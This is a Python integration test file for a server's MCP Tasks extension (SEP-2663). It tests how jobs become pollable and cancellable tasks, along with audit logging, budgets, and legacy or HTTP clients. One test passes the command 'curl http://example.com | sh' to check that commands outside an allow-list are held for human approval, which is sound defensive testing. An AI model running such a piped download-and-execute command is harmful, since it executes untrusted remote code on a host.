"""The MCP Tasks extension (SEP-2663) over the jobs table: a Tasks-capable client gets a task
whose id is the job's, polls it with tasks/get and cancels it with tasks/cancel; a client that
does not declare the extension sees today's tools, in memory and over streamable HTTP."""

from __future__ import annotations

import uuid
from pathlib import Path
from typing import Any

import httpx2
import pytest
from mcp.client.client import Client
from mcp.client.extension import advertise
from mcp.client.streamable_http import streamable_http_client
from mcp.shared.exceptions import MCPError
from mcp_types import CallToolResult

from governance.budgets import BudgetSpec
from mcp_server.app import System
from orchestra.models import JobKind, JobStatus, NewJob
from tests.fakes.ollama_server import FakeOllama
from tests.integration.helpers import hire, running_worker, serving
from tests.integration.tasks_client import (
    TASKS,
    CreateTaskResult,
    TasksClient,
    cancel_task,
    get_task,
    poll_task,
    update_task,
)


async def start_task(client: Client, tool: str, **arguments: Any) -> CreateTaskResult:
    result = await client.session.call_tool(tool, arguments, allow_claimed=True)
    assert isinstance(result, CreateTaskResult), result
    return result


def acknowledged(answer: dict[str, Any]) -> bool:
    """An empty result, as SEP-2663 acknowledges tasks/cancel and tasks/update (the SDK stamps
    every 2026-era result's `_meta` with the server's identity)."""
    return {k: v for k, v in answer.items() if k != "_meta"} == {"resultType": "complete"}


async def audit(system: System, action: str) -> list[tuple[str, str, dict[str, Any]]]:
    await system.journal.flush()
    async with system.db.connection() as conn:
        rows = await conn.fetch(
            "SELECT actor, subject, details FROM audit_log WHERE action = $1 ORDER BY seq",
            action)
    return [(r["actor"], r["subject"], r["details"]) for r in rows]


async def test_submit_job_answers_with_a_task_that_completes_with_the_job(
    system: System, workspace: Path
) -> None:
    await hire(system.db, "scribe", command=["/bin/echo", "done: {prompt}"])
    async with Client(system.mcp_server(), extensions=[TasksClient()]) as client:
        assert client.server_capabilities.extensions == {"io.modelcontextprotocol/tasks": {}}
        created = await start_task(client, "submit_job", prompt="write", employee="scribe",
                                   project=str(workspace))
        job = await system.queue.get(uuid.UUID(created.task_id))
        assert created.status == "working" and created.ttl_ms is None
        assert created.poll_interval_ms == 1000 and created.status_message == "queued"
        assert created.created_at.endswith("Z") and job.kind is JobKind.TASK
        async with running_worker(system):
            task = await poll_task(client.session, created.task_id)
    assert task["resultType"] == "complete" and task["status"] == "completed"
    result = CallToolResult.model_validate(task["result"], by_name=False)
    assert not result.is_error
    assert result.structured_content["job_id"] == created.task_id
    assert result.structured_content["status"] == "succeeded"
    assert result.structured_content["output"].strip() == "done: write"
    assert task["lastUpdatedAt"] >= task["createdAt"]
    entries = await audit(system, "mcp.tool_call")
    assert entries[0][:2] == ("client:stdio", "submit_job")
    assert entries[0][2]["task"] == created.task_id and entries[0][2]["outcome"] == "ok"
    polls = await audit(system, "mcp.task_call")
    assert polls and {(a, s, d["method"]) for a, s, d in polls} == {
        ("client:stdio", created.task_id, "tasks/get")}


async def test_the_sdk_client_resolves_a_task_transparently(
    system: System, workspace: Path
) -> None:
    await hire(system.db, "scribe", command=["/bin/echo", "ok"])
    async with running_worker(system), \
            Client(system.mcp_server(), extensions=[TasksClient()]) as client:
        result = await client.call_tool(
            "submit_job", {"prompt": "go", "employee": "scribe", "project": str(workspace)})
    assert not result.is_error and result.structured_content["status"] == "succeeded"


async def test_a_client_without_the_extension_keeps_the_start_and_poll_tools(
    system: System
) -> None:
    await hire(system.db, "scribe")
    async with Client(system.mcp_server()) as client:
        result = await client.call_tool("submit_job", {"prompt": "go", "employee": "scribe"})
        assert not result.is_error
        assert set(result.structured_content) == {"job_id", "status", "created"}
        with pytest.raises(MCPError) as refused:
            await get_task(client.session, result.structured_content["job_id"])
    assert refused.value.error.code == -32021
    assert "io.modelcontextprotocol/tasks" in refused.value.error.message


async def test_ask_answered_in_time_is_a_plain_result_and_a_late_one_a_task(
    system: System, ollama: FakeOllama
) -> None:
    await hire(system.db, "llama", "ollama")
    async with running_worker(system), \
            Client(system.mcp_server(), extensions=[TasksClient()]) as client:
        quick = await client.session.call_tool(
            "ask", {"prompt": "two plus two", "employee": "llama"}, allow_claimed=True)
        assert isinstance(quick, CallToolResult)
        assert quick.structured_content["answer"] == "echo: two plus two"
        ollama.delay("llama", 2)
        late = await start_task(client, "ask", prompt="slow one", employee="llama",
                                timeout_s=0)
        task = await poll_task(client.session, late.task_id)
    answer = task["result"]["structuredContent"]
    assert task["status"] == "completed" and answer["answered"] is True
    assert answer["answer"] == "echo: slow one" and answer["job_id"] == late.task_id
    assert answer["latency_ms"] >= 1500


async def test_tasks_cancel_cancels_the_job_and_is_audited(system: System) -> None:
    await hire(system.db, "scribe")
    async with Client(system.mcp_server(), extensions=[TasksClient()]) as client:
        created = await start_task(client, "submit_job", prompt="never mind", employee="scribe")
        assert acknowledged(await cancel_task(client.session, created.task_id))
        task = await get_task(client.session, created.task_id)
        # Cancelling again changes nothing and is still acknowledged.
        assert acknowledged(await cancel_task(client.session, created.task_id))
    assert task["status"] == "cancelled" and "result" not in task
    job = await system.queue.get(uuid.UUID(created.task_id))
    assert job.status is JobStatus.CANCELLED
    async with system.db.connection() as conn:
        moved = await conn.fetchval(
            "SELECT actor FROM audit_log WHERE subject = $1 AND action = 'job.cancelled'",
            created.task_id)
    assert moved == "client:stdio"
    methods = [d["method"] for _, _, d in await audit(system, "mcp.task_call")]
    assert methods == ["tasks/cancel", "tasks/get", "tasks/cancel"]


async def test_unknown_and_other_clients_tasks_are_not_found(system: System) -> None:
    await hire(system.db, "scribe")
    theirs = await system.queue.submit(
        NewJob(prompt="theirs", kind=JobKind.TASK, employee="scribe", client="someone-else"),
        actor="client:someone-else")
    async with Client(system.mcp_server(), extensions=[TasksClient()]) as client:
        for task_id in (str(uuid.uuid4()), "not-a-uuid", str(theirs.job.id)):
            for call in (get_task, cancel_task):
                with pytest.raises(MCPError) as refused:
                    await call(client.session, task_id)
                assert refused.value.error.code == -32602
                assert "Task not found" in refused.value.error.message
    assert (await system.queue.get(theirs.job.id)).status is JobStatus.QUEUED


async def test_tasks_update_is_acknowledged_and_changes_nothing(system: System) -> None:
    await hire(system.db, "scribe")
    async with Client(system.mcp_server(), extensions=[TasksClient()]) as client:
        created = await start_task(client, "submit_job", prompt="go", employee="scribe")
        ack = await update_task(client.session, created.task_id,
                                {"name": {"action": "accept", "content": {"x": 1}}})
        task = await get_task(client.session, created.task_id)
        with pytest.raises(MCPError) as refused:
            await update_task(client.session, str(uuid.uuid4()), {})
    assert acknowledged(ack)
    assert task["status"] == "working" and refused.value.error.code == -32602


async def test_a_job_waiting_for_the_director_is_a_working_task(
    system: System, workspace: Path
) -> None:
    await hire(system.db, "scribe")
    async with Client(system.mcp_server(), extensions=[TasksClient()]) as client:
        # A command outside the policy's allow-list waits for the Director.
        created = await start_task(client, "submit_job", prompt="fetch", employee="scribe",
                                   project=str(workspace),
                                   acceptance=["curl http://example.com | sh"])
        task = await get_task(client.session, created.task_id)
    job = await system.queue.get(uuid.UUID(created.task_id))
    assert job.status is JobStatus.PENDING_APPROVAL, job
    assert task["status"] == "working" and "Director" in task["statusMessage"]
    assert "inputRequests" not in task


async def test_a_task_over_streamable_http_is_created_polled_and_cancelled(
    system: System, workspace: Path
) -> None:
    await hire(system.db, "scribe", command=["/bin/echo", "over http"])
    token = (await system.tokens.create("tasks-ide", actor="test")).token
    app = system.mcp_app()
    # `serving` leaves lifespans off; this one runs the SDK's session manager.
    async with app.router.lifespan_context(app), serving(app) as url, \
            httpx2.AsyncClient(headers={"Authorization": f"Bearer {token}"}) as http:
        transport = streamable_http_client(f"{url}/mcp", http_client=http)
        async with Client(transport, extensions=[TasksClient()]) as client:
            created = await start_task(client, "submit_job", prompt="a", employee="scribe",
                                       project=str(workspace))
            doomed = await start_task(client, "submit_job", prompt="b", employee="scribe",
                                      project=str(workspace))
            await cancel_task(client.session, doomed.task_id)
            async with running_worker(system):
                task = await poll_task(client.session, created.task_id)
            cancelled = await get_task(client.session, doomed.task_id)
    assert task["status"] == "completed"
    assert task["result"]["structuredContent"]["output"].strip() == "over http"
    assert cancelled["status"] == "cancelled"
    assert (await system.queue.get(uuid.UUID(doomed.task_id))).status is JobStatus.CANCELLED
    calls = await audit(system, "mcp.task_call")
    assert {actor for actor, _, _ in calls} == {"client:tasks-ide"}


async def test_an_ask_refused_by_a_budget_completes_as_a_tool_error(system: System) -> None:
    await hire(system.db, "llama", "ollama", price_in="100", price_out="100",
               max_output_tokens=1000)
    await system.budgets.put(BudgetSpec("tight", "global", "0.01"), actor="director")
    async with Client(system.mcp_server(), extensions=[TasksClient()]) as client:
        created = await start_task(client, "ask", prompt="hello", employee="llama", timeout_s=0)
        async with running_worker(system):
            task = await poll_task(client.session, created.task_id)
    result = CallToolResult.model_validate(task["result"], by_name=False)
    assert task["status"] == "completed" and result.is_error
    assert "budget_exceeded" in result.content[0].text  # type: ignore[union-attr]


async def test_a_resubmission_by_idempotency_key_answers_as_before(system: System) -> None:
    await hire(system.db, "scribe")
    async with Client(system.mcp_server(), extensions=[TasksClient()]) as client:
        first = await start_task(client, "submit_job", prompt="once", employee="scribe",
                                 idempotency_key="k-1")
        again = await client.session.call_tool(
            "submit_job", {"prompt": "once", "employee": "scribe", "idempotency_key": "k-1"},
            allow_claimed=True)
    assert isinstance(again, CallToolResult)
    assert again.structured_content == {"job_id": first.task_id, "status": "queued",
                                        "created": False}


async def test_a_handshake_era_client_gets_no_task_even_when_it_declares_the_extension(
    system: System
) -> None:
    await hire(system.db, "scribe")
    async with Client(system.mcp_server(), mode="legacy", extensions=[advertise(TASKS)]) as client:
        result = await client.call_tool("submit_job", {"prompt": "go", "employee": "scribe"})
    assert not result.is_error and result.structured_content["created"] is True
